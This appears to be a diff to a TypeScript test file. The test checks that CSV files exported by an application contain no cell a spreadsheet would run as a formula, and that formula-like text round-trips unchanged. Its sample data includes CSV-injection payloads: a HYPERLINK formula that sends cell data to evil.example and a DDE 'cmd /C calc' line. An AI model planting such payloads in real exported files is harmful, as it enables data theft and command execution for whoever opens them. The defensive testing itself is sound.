@@ -1,7 +1,8 @@
-import { mkdtemp, rm } from 'node:fs/promises'
+import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { basename, join } from 'node:path'
 import { PassThrough } from 'node:stream'
+import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { createAdministrator } from '../../../../backend/administration/command/createAdministrator.ts'
 import { systemClock } from '../../../../backend/clock.ts'
@@ -44,6 +45,12 @@ const importInto = async (dataDir: string) => {
 
 let target: string
 
+/** What a customer may have written when refusing a bar. */
+const formulas = [
+  ...['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\uff1d1+1'],
+  ...["'=1", "''=1", 'a;=1+1', "a;'=1", 'a\n=2', '-5', 'plain'],
+]
+
 beforeAll(async () => {
   demo = await startApi()
   folder = await mkdtemp(join(tmpdir(), 'anvil-files-'))
@@ -51,6 +58,11 @@ beforeAll(async () => {
   // Those of the demo are drawn, and no photos.
   for (const table of ['contact_photos', 'team_photos'])
     await demo.rows.ask(`update ${table} set media_type = 'image/png', photo = ?`, onePixel)
+  for (const [at, refusal] of formulas.entries())
+    await demo.rows.ask(
+      `update bars set refusal = ?, is_approved = 0, decided_on = '2026-11-02', approval_file_id = null where id = (select id from bars order by id limit 1 offset ?)`,
+      ...[refusal, at],
+    )
   await exportFiles(demo, folder, () => {})
   await importInto(target)
   plant = await startApi({ template: target, env: { DEMO: 'off' } })
@@ -61,6 +73,27 @@ afterAll(async () => {
   await Promise.all([demo?.stop(), plant?.stop()])
   for (const path of [folder, target]) await rm(path, { recursive: true, force: true })
   if (server) await dropDatabase(server, basename(target))
+})
+
+test('no cell of the files is a formula to a spreadsheet', async () => {
+  const isNumber = /^-?\d+(\.\d+)?$/
+  const isFormula = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[;|\t\r\n]\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/
+  const files = (await readdir(folder)).filter((name) => name.endsWith('.csv'))
+  expect(files).toContain('bars.csv')
+  for (const name of files) {
+    const cells = (parse(await readFile(join(folder, name))) as string[][]).flat()
+    expect(
+      cells.filter((cell) => isFormula.test(cell) && !isNumber.test(cell)),
+      name,
+    ).toEqual([])
+  }
+})
+
+test('a text that looks like a formula comes back as it was written', async () => {
+  const refusalsOf = async ({ rows }: Api) =>
+    (await rows.ask('select refusal from bars where refusal is not null order by id')).map(({ refusal }) => refusal)
+  expect(await refusalsOf(demo)).toEqual(expect.arrayContaining(formulas))
+  expect(await refusalsOf(plant)).toEqual(await refusalsOf(demo))
 })
 
 const users = 'users and what they did'
